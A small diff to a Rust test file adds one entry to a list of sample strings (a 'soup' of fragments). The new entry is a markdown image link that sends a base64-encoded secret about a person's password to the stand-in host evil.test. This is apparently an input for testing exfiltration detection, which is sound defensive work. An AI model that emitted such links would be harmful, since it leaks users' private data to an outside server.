@@ -113,6 +113,7 @@ fn soup() -> Vec<String> {
         "]: ",
         "<img src=",
         "https://evil.test/?q=",
+        "![b](https://evil.test/?q=dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg)",
         "dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg",
         "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
         "the quick brown fox",
